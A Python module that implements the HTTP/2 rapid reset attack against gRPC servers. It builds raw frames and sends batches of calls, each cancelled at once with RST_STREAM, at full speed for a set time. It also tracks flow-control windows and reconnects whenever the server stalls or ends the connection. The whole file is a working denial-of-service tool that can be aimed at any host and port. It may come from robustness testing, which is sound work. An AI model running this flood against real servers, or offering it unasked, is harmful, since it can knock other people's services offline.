"""HTTP/2 rapid reset: calls that are reset right after they were sent, as frames that no gRPC client would send."""

from __future__ import annotations

import asyncio
import contextlib
import time
from collections import Counter

DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0, 1, 3, 4, 6, 7, 8
END_STREAM, ACK, END_HEADERS = 1, 1, 4
CANCEL = 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
WINDOW_BYTES = 65_535
"""The initial flow-control window of a connection."""
MAX_STREAM_ID = 2**31 - 1
EMPTY_MESSAGE = bytes(5)
"""A gRPC message without fields: no compression, length 0."""
BATCH = 100
"""Calls that are written at once."""
STALL_SECONDS = 1.0
"""Without room in the window for this time, a new connection is opened."""


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return an HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def header_block(method: str) -> bytes:
    """Return the headers of a gRPC call as HPACK literals without indexing."""
    headers = {
        ":method": "POST",
        ":scheme": "http",
        ":path": f"/{method}",
        ":authority": "localhost",
        "content-type": "application/grpc",
        "te": "trailers",
    }
    return b"".join(b"\x00" + _literal(name) + _literal(value) for name, value in headers.items())


def _literal(text: str) -> bytes:
    return bytes([len(text)]) + text.encode()


class Connection:
    """One HTTP/2 connection."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, method: str) -> None:
        self._reader, self._writer, self._headers = reader, writer, header_block(method)
        self._window, self._next_stream = WINDOW_BYTES, 1
        self._has_room = asyncio.Event()
        self._writer.write(PREFACE + frame(SETTINGS, 0, 0))
        self.ended = False
        """Whether the server has ended the connection or announced that."""

    async def send_and_reset(self, count: int) -> bool:
        """Send calls and reset each at once. Returns False if the connection accepts no more calls."""
        size = count * len(EMPTY_MESSAGE)
        if self._window < size:
            self._has_room.clear()
            with contextlib.suppress(TimeoutError):
                await asyncio.wait_for(self._has_room.wait(), STALL_SECONDS)
        if self.ended or self._window < size or self._next_stream + 2 * count > MAX_STREAM_ID:
            return False
        self._window -= size
        first, self._next_stream = self._next_stream, self._next_stream + 2 * count
        calls = bytearray()
        for stream in range(first, self._next_stream, 2):
            calls += frame(HEADERS, END_HEADERS, stream, self._headers)
            calls += frame(DATA, END_STREAM, stream, EMPTY_MESSAGE)
            calls += frame(RST_STREAM, 0, stream, CANCEL.to_bytes(4, "big"))
        self._writer.write(calls)
        await self._writer.drain()
        await asyncio.sleep(0)  # so that the frames of the server are handled even if nothing has to be drained
        return True

    async def handle_frames(self) -> None:
        """Handle the frames of the server until the connection ends."""
        try:
            while not self.ended:
                head = await self._reader.readexactly(9)
                payload = await self._reader.readexactly(int.from_bytes(head[:3], "big"))
                self._handle(head[3], head[4], int.from_bytes(head[5:], "big"), payload)
        except (ConnectionError, asyncio.IncompleteReadError):
            self.ended = True
        self._has_room.set()

    def _handle(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        match kind:
            case _ if kind == GOAWAY:
                self.ended = True
            case _ if kind in (SETTINGS, PING) and not flags & ACK:
                self._writer.write(frame(kind, ACK, 0, payload if kind == PING else b""))
            case _ if kind == WINDOW_UPDATE and stream == 0:
                self._window += int.from_bytes(payload, "big")
                self._has_room.set()


async def reset_calls(address: str, method: str, seconds: float) -> Counter[str]:
    """Reset calls of a method at full speed on one connection at a time; return the numbers of both."""
    counts: Counter[str] = Counter()
    host, _, port = address.rpartition(":")
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        reader, writer = await asyncio.open_connection(host, int(port))
        counts["connections"] += 1
        connection = Connection(reader, writer, method)
        handling = asyncio.create_task(connection.handle_frames())
        try:
            while time.monotonic() < end and await connection.send_and_reset(BATCH):
                counts["reset calls"] += BATCH
        except ConnectionError:
            counts["connections cut by the server"] += 1
        finally:
            handling.cancel()
            await asyncio.wait({handling})
            writer.transport.abort()
    return counts
